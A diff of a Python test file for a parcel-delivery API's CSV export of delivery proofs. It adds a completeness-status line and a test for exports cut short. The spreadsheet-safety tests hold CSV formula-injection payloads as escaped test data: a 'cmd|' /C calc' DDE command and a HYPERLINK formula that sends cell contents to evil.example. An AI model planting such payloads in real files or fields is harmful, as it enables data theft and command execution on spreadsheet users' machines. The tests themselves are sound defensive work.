@@ -13,10 +13,12 @@ import pytest
 from flask import Flask
 from flask.testing import FlaskClient
 from sqlalchemy import Connection, event, select, update
+from sqlalchemy.exc import OperationalError
 from sqlalchemy.orm import Session
 
 from courier_api.api.parcels import routes as parcels_routes
 from courier_api.api.proofs import routes as proofs_routes
+from courier_api.api.proofs.routes import EXPORT_COMPLETE
 from models import (
     AuditEntry,
     Blob,
@@ -36,6 +38,7 @@ from tests import factories
 from tests.conftest import Auth, World
 from tests.courier_api.test_transaction_conflicts import aborted
 from tests.courier_api.test_web_pages import signed_in
+from tests.exports import exported
 
 URL = "/api/v1/proofs"
 SIGNED = {"recipient_name": "Li", "relation": "self", "signature_sha256": "b" * 64}
@@ -406,7 +409,7 @@ def test_the_csv_export_streams_the_filtered_proofs(
         f"{URL}/export.csv", query_string={"method": "in_person"}, headers=auth.headers("manager1")
     )
     assert response.status_code == 200 and response.mimetype == "text/csv"
-    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
+    rows = exported(response.get_data(as_text=True))
     assert [r["tracking_no"] for r in rows] == [day["signed"].tracking_no]
     assert rows[0]["signature_sha256"] == "b" * 64
     assert rows[0]["recipient_phone"] == "'+86*******5678"  # masked, opened as text
@@ -578,7 +581,7 @@ def test_a_drop_a_correction_voided_is_not_shown_as_an_unauthorized_drop(
     [item] = client.get(URL, query_string=query, headers=auditor).get_json()["items"]
     detail = client.get(f"{URL}/{item['event_id']}", headers=auditor).get_json()
     export = client.get(f"{URL}/export.csv", query_string=query, headers=auditor)
-    [row] = list(csv.DictReader(io.StringIO(export.get_data(as_text=True))))
+    [row] = exported(export.get_data(as_text=True))
     html = signed_in(app, "auditor1").get(f"/web/proofs/{item['event_id']}")
 
     for shown in (item, detail):
@@ -618,7 +621,7 @@ def test_a_drop_scanned_again_after_a_consent_shows_the_consent_as_after_the_dro
     items = client.get(URL, query_string=query, headers=auditor).get_json()["items"]
     details = [client.get(f"{URL}/{i['event_id']}", headers=auditor).get_json() for i in items]
     export = client.get(f"{URL}/export.csv", query_string=query, headers=auditor)
-    rows = list(csv.DictReader(io.StringIO(export.get_data(as_text=True))))
+    rows = exported(export.get_data(as_text=True))
     assert len(items) == len(details) == len(rows) == 2
     for shown in (*items, *details):
         assert (shown["consent_required"], shown["authorizing_consent"]) == (True, None)
@@ -664,7 +667,7 @@ def test_a_delivery_voided_by_a_correction_is_marked_in_the_search_and_the_expor
     detail = client.get(f"{URL}/{items[0]['event_id']}", headers=auditor).get_json()
     assert detail["voided"] is True
     export = client.get(f"{URL}/export.csv", query_string=query, headers=auditor)
-    rows = list(csv.DictReader(io.StringIO(export.get_data(as_text=True))))
+    rows = exported(export.get_data(as_text=True))
     assert [(r["tracking_no"], r["voided"]) for r in rows] == [(parcel.tracking_no, "True")]
     html = signed_in(app, "auditor1").get(f"/web/proofs?tracking_no={parcel.tracking_no}")
     row = html.split(f'id="proof-{items[0]["event_id"]}"')[1].split("</tr>")[0]
@@ -719,7 +722,7 @@ def test_the_export_never_hands_a_spreadsheet_a_formula(
     )
     auth.push([factories.event(1, parcel.tracking_no, occurred_at=at), delivered])
     export = client.get(f"{URL}/export.csv", headers=auth.headers("auditor1"))
-    (row,) = csv.DictReader(io.StringIO(export.get_data(as_text=True)))
+    (row,) = exported(export.get_data(as_text=True))
     assert row["recipient_name"] == "'" + parcel.recipient_name
     assert row["address"] == "'@SUM(1+1)"
     assert row["pod_recipient_name"] == "'+1+cmd|' /C calc'!A0"
@@ -752,7 +755,7 @@ def test_the_export_hands_no_formula_to_a_spreadsheet_splitting_lines_at_semicol
     for line in text.splitlines():
         for cell in line.split(";")[1:]:  # each a cell of its own in such a spreadsheet
             assert not cell.lstrip(' \t"').startswith(("=", "+", "-", "@")), line
-    (row,) = csv.DictReader(io.StringIO(text))
+    (row,) = exported(text)
     assert row["pod_recipient_name"] == 'Li;\'=HYPERLINK("http://evil.example/?"&A1,"x")'
     assert row["address"] == "Room 1; \"'@SUM(1+1)"
 
@@ -784,7 +787,7 @@ def test_a_line_break_in_a_text_cell_begins_no_formula_where_lines_split_at_semi
     for line in csv.reader(io.StringIO(text, newline=""), delimiter=";"):
         for cell in line:
             assert not cell.lstrip(' \t"').startswith(("=", "+", "-", "@")), line
-    (row,) = csv.DictReader(io.StringIO(text, newline=""))
+    (row,) = exported(text)
     assert row["pod_recipient_name"] == 'Li\n\'=HYPERLINK("http://evil.example/?"&A1,"x")'
     assert row["pod_relation"] == "self\r\n \"'@SUM(1+1)\r'-2+3"
 
@@ -939,7 +942,7 @@ def test_a_phone_typed_into_the_pod_is_masked_except_for_auditors(
         export = client.get(
             f"{URL}/export.csv", query_string=query, headers=auth.headers(username)
         )
-        (row,) = csv.DictReader(io.StringIO(export.get_data(as_text=True)))
+        (row,) = exported(export.get_data(as_text=True))
         assert row["pod_relation"] == relation, username
         page = signed_in(client.application, username).get(f"/web/proofs/{item['event_id']}")
         assert f"({relation})" in page, username
@@ -991,7 +994,7 @@ def _export(client: FlaskClient, auth: Auth, query: dict[str, str]) -> list[dict
         f"{URL}/export.csv", query_string=query, headers=auth.headers("auditor1")
     )
     assert response.status_code == 200
-    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
+    return exported(response.get_data(as_text=True))
 
 
 def _items(client: FlaskClient, auth: Auth, tracking_no: str) -> list[dict[str, Any]]:
@@ -1174,6 +1177,60 @@ def test_a_big_export_logs_each_batch_before_sending_it(
     assert started.details["part"] == 1 and started.details["event_ids"] == everything[:2]
     sent = csv.DictReader(io.StringIO(first.decode()))
     assert [int(r["event_id"]) for r in sent] == everything[:2]
+
+
+def test_an_export_says_on_its_last_line_that_it_is_complete_and_one_cut_short_does_not(
+    app: Flask,
+    client: FlaskClient,
+    auth: Auth,
+    session: Session,
+    world: World,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    """The status line goes out before the first proof: an export a database error cut
+    short after its first batch ended with whole lines and a 200, and an auditor holding
+    the file took it for every proof the filters match. A complete export (the API's and
+    the page's) ends with a line saying so, with how many proofs it holds and the
+    ``export_id`` its audit entries name; one cut short has no such line."""
+    monkeypatch.setattr(proofs_routes, "EXPORT_BATCH", 2)
+    parcels = [factories.parcel(session, world.station) for _ in range(3)]
+    session.commit()
+    at = now() - dt.timedelta(minutes=30)
+    auth.push(
+        [factories.event(n, p.tracking_no, occurred_at=at) for n, p in enumerate(parcels, 1)]
+        + [
+            factories.event(n, p.tracking_no, "delivered", occurred_at=at, pod=SIGNED)
+            for n, p in enumerate(parcels, 4)
+        ]
+    )
+    export = client.get(f"{URL}/export.csv", headers=auth.headers("auditor1"))
+    assert export.status_code == 200
+    *_, last = export.get_data(as_text=True).splitlines()
+    (entry, *_) = session.scalars(
+        select(AuditEntry).where(AuditEntry.action == "proofs_exported")
+    ).all()
+    assert last == f"{EXPORT_COMPLETE}: 3 proofs (export {entry.details['export_id']})"
+    page = signed_in(app, "auditor1").client.get("/web/proofs/export.csv")
+    assert len(exported(page.get_data(as_text=True))) == 3
+
+    batches = proofs_routes.iter_proof_batches
+
+    def failing(**kwargs: Any) -> Iterator[list[proofs.Proof]]:
+        for part, batch in enumerate(batches(**kwargs)):
+            if part == 1:
+                raise OperationalError("SELECT", {}, Exception("connection lost"))
+            yield batch
+
+    monkeypatch.setattr(proofs_routes, "iter_proof_batches", failing)
+    cut = client.get(f"{URL}/export.csv", headers=auth.headers("auditor1"), buffered=False)
+    sent = []
+    with pytest.raises(OperationalError):
+        for chunk in cut.response:
+            sent.append(chunk.decode())
+    cut.close()
+    text = "".join(sent)
+    assert len(list(csv.DictReader(io.StringIO(text)))) == 2  # its first batch went out
+    assert EXPORT_COMPLETE not in text
 
 
 # -- an auditor settling a dispute, second reading ---------------------------------------------
@@ -2191,7 +2248,7 @@ def test_an_export_holds_a_delivery_committed_late_below_an_id_it_read_already(
     monkeypatch.setattr(proofs, "list_proofs", listing)
     export = client.get(f"{URL}/export.csv", headers=auth.headers("auditor1"))
     assert export.status_code == 200
-    rows = list(csv.DictReader(io.StringIO(export.get_data(as_text=True))))
+    rows = exported(export.get_data(as_text=True))
     assert batches[0] == [delivered[1]]
     assert [int(row["event_id"]) for row in rows] == [delivered[1], delivered[2], late]
     session.expire_all()
